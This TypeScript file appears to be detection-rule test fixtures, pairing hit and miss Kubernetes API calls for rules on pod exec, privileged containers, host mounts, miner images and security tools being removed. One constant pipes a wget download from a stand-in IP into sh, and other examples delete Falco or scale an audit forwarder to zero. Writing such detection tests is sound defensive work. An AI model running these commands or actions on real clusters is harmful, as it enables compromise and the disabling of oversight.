import type { Examples } from "./example.ts";
import {
  by,
  call,
  config,
  CONTROLLERS,
  mounted,
  pod,
  secured,
  template,
} from "./kubernetes-call.ts";

const FETCH = ["sh", "-c", "wget -qO- http://203.0.113.9/x | sh"];
const DAEMONS = by(`${CONTROLLERS}:daemon-set-controller`);
const capability = (direction: "add" | "drop", name: string) =>
  secured({ capabilities: { [direction]: [name] } });

/** Pods, what starts them, and the ways into them. */
export const WORKLOAD_EXAMPLES: Examples = {
  "kubernetes.command-in-container": {
    hit: call("create pods/exec shop/web"),
    miss: call("get pods/log shop/web"),
  },
  "kubernetes.command-by-kubelet": {
    hit: call("create nodes/proxy /n1", undefined, {
      requestURI: "/api/v1/nodes/n1/proxy/run/shop/web/app?cmd=id",
    }),
    miss: call("get nodes/proxy /n1", undefined, {
      requestURI: "/api/v1/nodes/n1/proxy/metrics/cadvisor",
    }),
  },
  "kubernetes.kubelet-reached": {
    hit: call("get nodes/proxy /n1", undefined, { requestURI: "/api/v1/nodes/n1/proxy/pods" }),
    miss: call("get nodes/proxy /n1", undefined, {
      requestURI: "/api/v1/nodes/n1/proxy/stats/summary",
    }),
  },
  "kubernetes.port-forwarded": {
    hit: call("create pods/portforward shop/db-0"),
    miss: call("get pods/status shop/db-0"),
  },
  "kubernetes.reached-by-proxy": {
    hit: call("get services/proxy shop/admin"),
    miss: call(
      "get services/proxy kube-system/metrics",
      undefined,
      by("system:kube-controller-manager"),
    ),
  },
  "kubernetes.debug-container": {
    hit: call("patch pods/ephemeralcontainers shop/web", {
      spec: { ephemeralContainers: [{ name: "dbg", image: "busybox" }] },
    }),
    miss: call("get pods/ephemeralcontainers shop/web"),
  },
  "kubernetes.container-privileged": {
    hit: call("create deployments shop/web", template({ securityContext: { privileged: true } })),
    miss: call("create deployments shop/web", template({ securityContext: { privileged: false } })),
  },
  "kubernetes.host-processes": {
    hit: config("Pod shop/web", { hostPID: true }),
    miss: config("Pod shop/web", { hostPID: false, hostIPC: false }),
  },
  "kubernetes.host-network": {
    hit: call("create pods shop/web", pod({}, { hostNetwork: true })),
    miss: call("create pods shop/web", pod({}, { hostNetwork: false })),
  },
  "kubernetes.host-folder-of-power": {
    hit: call("create pods shop/web", mounted("/var/run/docker.sock")),
    miss: call("create pods shop/web", mounted("/etc/localtime")),
  },
  "kubernetes.host-folder": {
    hit: call("create pods shop/web", mounted("/srv/models")),
    miss: call("create pods shop/web", pod({ volumeMounts: [{ mountPath: "/" }] })),
  },
  "kubernetes.capability-over-host": {
    hit: call("create pods shop/web", capability("add", "SYS_ADMIN")),
    miss: call("create pods shop/web", capability("drop", "ALL")),
  },
  "kubernetes.pod-of-power-by-controller": {
    hit: call("create pods shop/", pod({}, { hostPID: true }), DAEMONS),
    miss: call("create pods kube-system/", pod({}, { hostPID: true }), DAEMONS),
  },
  "kubernetes.capability-over-network": {
    hit: call("create pods shop/web", capability("add", "NET_ADMIN")),
    miss: call("create pods shop/web", capability("add", "NET_BIND_SERVICE")),
  },
  "kubernetes.privileges-may-grow": {
    hit: call("create pods shop/web", secured({ allowPrivilegeEscalation: true })),
    miss: call("create pods shop/web", secured({ allowPrivilegeEscalation: false })),
  },
  "kubernetes.kernel-guard-off": {
    hit: call("create pods shop/web", secured({ seccompProfile: { type: "Unconfined" } })),
    miss: call("create pods shop/web", secured({ seccompProfile: { type: "RuntimeDefault" } })),
  },
  "kubernetes.runs-as-root": {
    hit: call("create pods shop/web", secured({ runAsUser: 0 })),
    miss: call("create pods shop/web", secured({ runAsUser: 1000, runAsNonRoot: true })),
  },
  "kubernetes.pod-by-hand": {
    hit: call("create pods shop/web"),
    miss: call("create pods shop/", undefined, by(`${CONTROLLERS}:replicaset-controller`)),
  },
  "kubernetes.workload-among-systems": {
    hit: call("create deployments kube-system/dns-helper"),
    miss: call("create deployments shop/dns-helper"),
  },
  "kubernetes.workload-on-every-node": {
    hit: call("create daemonsets shop/agent"),
    miss: call("delete daemonsets shop/agent"),
  },
  "kubernetes.workload-fetches-code": {
    hit: call("create jobs shop/sync", template({ command: FETCH })),
    miss: call("create jobs shop/sync", template({ command: ["curl", "-f", "http://web/health"] })),
  },
  "kubernetes.workload-mines": {
    hit: config("Deployment shop/web", { images: ["example/xmrig:6"] }),
    miss: config("Deployment shop/web", { images: ["example/web:6"] }),
  },
  "kubernetes.image-or-command-changed": {
    hit: call("patch deployments shop/web", template({ image: "web:4" })),
    miss: call("patch deployments shop/web", { spec: { replicas: 3 } }),
  },
  "kubernetes.workload-settings-changed": {
    hit: call("patch daemonsets shop/agent"),
    miss: call("get daemonsets shop/agent"),
  },
  "kubernetes.scheduled-job": {
    hit: config("CronJob shop/sync", { spec: { schedule: "* * * * *" } }),
    miss: call("list cronjobs shop/"),
  },
  "kubernetes.scheduled-job-changed": {
    hit: call("patch cronjobs shop/sync", { spec: { schedule: "*/5 * * * *" } }),
    miss: call("patch cronjobs shop/sync", { spec: { suspend: false } }),
  },
  "kubernetes.job-by-hand": {
    hit: call("create jobs shop/sync"),
    miss: call("create jobs shop/sync-1", undefined, by(`${CONTROLLERS}:cronjob-controller`)),
  },
  "kubernetes.scaled-to-nothing": {
    hit: call("patch deployments/scale shop/web", { spec: { replicas: 0 } }),
    miss: call("patch deployments/scale shop/web", { spec: { replicas: 10 } }),
  },
  "kubernetes.scaled": {
    hit: call("patch deployments shop/web", { spec: { replicas: 6 } }),
    miss: call("patch deployments shop/web", { spec: { replicas: 0 } }),
  },
  "kubernetes.job-suspended": {
    hit: call("patch cronjobs shop/backup", { spec: { suspend: true } }),
    miss: call("patch cronjobs shop/backup", { spec: { suspend: false } }),
  },
  "kubernetes.job-resumed": {
    hit: call("patch cronjobs shop/backup", [
      { op: "replace", path: "/spec/suspend", value: false },
    ]),
    miss: call("patch cronjobs shop/backup", [
      { op: "replace", path: "/spec/suspend", value: true },
    ]),
  },
  "kubernetes.guard-scaled-to-nothing": {
    hit: call("update deployments/scale security/audit-forwarder", { spec: { replicas: 0 } }),
    miss: call("update deployments/scale shop/auditorium", { spec: { replicas: 0 } }),
  },
  "kubernetes.guard-removed": {
    hit: call("delete daemonsets falco/falco"),
    miss: call("delete daemonsets shop/cache"),
  },
};
